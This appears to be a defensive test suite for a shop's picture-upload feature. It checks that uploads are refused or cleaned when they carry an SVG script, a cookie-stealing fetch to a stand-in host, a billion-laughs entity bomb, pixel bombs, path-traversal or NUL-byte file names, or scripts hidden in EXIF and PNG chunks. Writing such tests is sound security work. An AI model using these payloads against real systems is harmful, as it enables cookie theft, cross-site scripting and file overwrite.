import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { append, begin, finish, send, signedIn, storedFiles } from '../../support/office/send-files.ts'
import { noise, pngBomb, withPngChunk } from '../../support/pictures/made-pictures.ts'
import { inTestShop } from '../../support/shop/test-shop.ts'

const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="alert(1)">${script}</svg>`
const noisePng = () => noise().png().toBuffer()
const jpeg = () => noise().jpeg().toBuffer()
const elsewhere = '../../../../etc/cron.d/evil.jpg'

/** Names that must not leave the folder of pictures. Each is sent with a good picture. */
const names = [
  elsewhere,
  '..\\..\\windows\\evil.jpg',
  '/etc/passwd.jpg',
  `${'x'.repeat(5_000)}.jpg`,
  '<img src=x onerror=alert(1)>.jpg',
  'con.jpg',
  '.htaccess',
  '\u202Egpj.exe',
  '',
]

const refused: [what: string, name: string, bytes: () => Promise<Uint8Array> | Uint8Array, problem: RegExp][] = [
  ['an SVG with a script', 'a.svg', () => Buffer.from(svg), /Not a JPEG/],
  ['an SVG with a script that is called JPEG', 'a.jpg', () => Buffer.from(svg), /Not a JPEG/],
  ['an SVG with entities that grow', 'a.png', () => Buffer.from(billionLaughs()), /Not a JPEG/],
  ['HTML that is called PNG', 'a.png', () => Buffer.from(`<!doctype html>${script}`), /Not a JPEG/],
  ['a program', 'a.jpg', () => Buffer.from('MZ\x90\0\x03'), /Not a JPEG/],
  ['a PDF', 'a.jpg', () => Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'), /Not a JPEG/],
  ['an archive', 'a.jpg', () => Buffer.from('PK\x03\x04aaaaaaaaaaaa'), /Not a JPEG/],
  ['a GIF', 'a.gif', async () => noise().gif().toBuffer(), /Not a JPEG/],
  ['a TIFF', 'a.tif', async () => noise().tiff().toBuffer(), /Not a JPEG/],
  ['zeros', 'a.jpg', () => Buffer.alloc(4_096), /Not a JPEG/],
  [
    'the beginning of a JPEG and nothing else',
    'a.jpg',
    () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    /Not a JPEG|damaged/,
  ],
  [
    'the beginning of a PNG and then text',
    'a.png',
    async () => Buffer.concat([(await noisePng()).subarray(0, 8), Buffer.from(script)]),
    /Not a JPEG|damaged/,
  ],
  ['half a JPEG', 'a.jpg', async () => (await jpeg()).subarray(0, 20_000), /damaged/],
  ['half a PNG', 'a.png', async () => (await noisePng()).subarray(0, 20_000), /damaged/],
  ['half a WebP', 'a.webp', async () => (await noise().webp().toBuffer()).subarray(0, 8_000), /damaged|Not a JPEG/],
  [
    'half an AVIF',
    'a.avif',
    async () => (await noise({ width: 640, height: 640 }).avif({ effort: 0 }).toBuffer()).subarray(0, 3_000),
    /damaged|Not a JPEG/,
  ],
  ['a PNG of 900 million pixels in 200 bytes', 'a.png', () => pngBomb(30_000, 30_000), /60 million pixels/],
  [
    'a PNG of more pixels than a number can count',
    'a.png',
    () => pngBomb(2_147_483_647, 2_147_483_647),
    /60 million|Not a JPEG/,
  ],
  [
    'a picture of 61 megapixels',
    'a.png',
    () => pngBomb(7_811, 7_811),
    /7811 × 7811 px is too large: at most 60 million/,
  ],
  ['a PNG that has fewer lines than it says', 'a.png', () => pngBomb(7_000, 7_000), /damaged/],
  ['a WebP that moves', 'a.webp', async () => moving(), /moves/],
  [
    'a picture too small for its place',
    'a.jpg',
    async () => noise({ width: 599, height: 1200 }).jpeg().toBuffer(),
    /599 × 1200 px is too small here: at least 600 × 600 px/,
  ],
]

function billionLaughs(): string {
  const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`)
  return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${entities.join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`
}

async function moving(): Promise<Buffer> {
  const frames = await Promise.all(['#ff0000', '#0000ff'].map((background) => plain(background)))
  return sharp(frames, { join: { animated: true } })
    .webp()
    .toBuffer()
}

const plain = (background: string) =>
  sharp({ create: { width: 600, height: 600, channels: 3, background } })
    .png()
    .toBuffer()

describe('a hostile upload', () => {
  test.each(refused)('%s is refused with the reason, and leaves nothing behind', async (_what, name, make, problem) => {
    const bytes = await make()
    await inTestShop(async (world) => {
      const office = await signedIn(world)
      const sent = await send(office, name, bytes)
      expect([sent.status, (await sent.json()).problem]).toEqual([422, expect.stringMatching(problem)])
      expect(storedFiles(world.mediaFolder)).toEqual([])
      expect(await world.shop.db.selectFrom('picture').select('id').execute()).toEqual([])
      expect(await world.shop.db.selectFrom('upload').select('id').execute()).toEqual([])
    })
  })

  test('with NUL in its name is refused as a form that cannot be read', () =>
    inTestShop(async (world) => {
      const office = await signedIn(world)
      const sent = await send(office, 'a.jpg\0.php', await jpeg())
      expect([sent.status, storedFiles(world.mediaFolder)]).toEqual([400, []])
    }))

  test.each(names)('with the name %j is stored under a harmless one', (name) =>
    inTestShop(async (world) => {
      const office = await signedIn(world)
      const { picture } = await (
        await send(office, name, await noise({ width: 600, height: 600 }).jpeg().toBuffer())
      ).json()
      expect(picture.file).toMatch(/^[a-z0-9][a-z0-9-]{0,119}\.jpg$/)
      const stored = storedFiles(world.mediaFolder)
      expect(stored).toEqual([join(world.mediaFolder, picture.file)])
    }),
  )

  test.each<[string, () => Promise<Buffer>]>([
    ['a web page behind its end', async () => Buffer.concat([await jpeg(), Buffer.from(script)])],
    [
      'a program in a compressed text',
      async () =>
        withPngChunk(
          await noisePng(),
          'zTXt',
          Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.from(script.repeat(50)))]),
        ),
    ],
    [
      'a script as the artist’s name',
      async () =>
        noise()
          .jpeg()
          .withExif({ IFD0: { Artist: script } })
          .toBuffer(),
    ],
  ])('with %s loses it', (_what, bytes) =>
    inTestShop(async (world) => {
      const office = await signedIn(world)
      const { picture } = await (await send(office, 'a.jpg', await bytes())).json()
      const stored = await world.shop.media.read(picture.file)
      expect(Buffer.from(stored ?? []).includes('script')).toBe(false)
      const shown = await office.get(`/public/storage/content/${picture.file}`)
      expect([shown.headers.get('content-type'), shown.headers.get('x-content-type-options')]).toEqual([
        'image/jpeg',
        'nosniff',
      ])
    }),
  )

  test('larger than 30 MB is refused before its bytes are sent, and cut when it says less', () =>
    inTestShop(async (world) => {
      const office = await signedIn(world)
      const announced = await begin(office, 'a.jpg', 30 * 1024 * 1024 + 1)
      expect([announced.status, (await announced.json()).problem]).toEqual([422, expect.stringContaining('30 MB')])
      for (const bytes of [0, -1, Number.NaN, 1.5]) expect((await begin(office, 'a.jpg', bytes)).status).toBe(422)
      const { id } = await (await begin(office, 'a.jpg', 10)).json()
      const tooLong = await append(office, id, 0, Buffer.alloc(11))
      expect([tooLong.status, await tooLong.json()]).toEqual([413, { received: 0 }])
    }))

  test.each(['../../etc/passwd', '..%2f..%2fstore', 'x', 'a'.repeat(32), '%00'])('with the id %j is unknown', (id) =>
    inTestShop(async (world) => {
      const office = await signedIn(world)
      const statuses = [(await office.get(`/uploads/${id}`)).status, (await finish(office, id)).status]
      for (const status of statuses) expect([400, 404, 405]).toContain(status)
    }),
  )
})
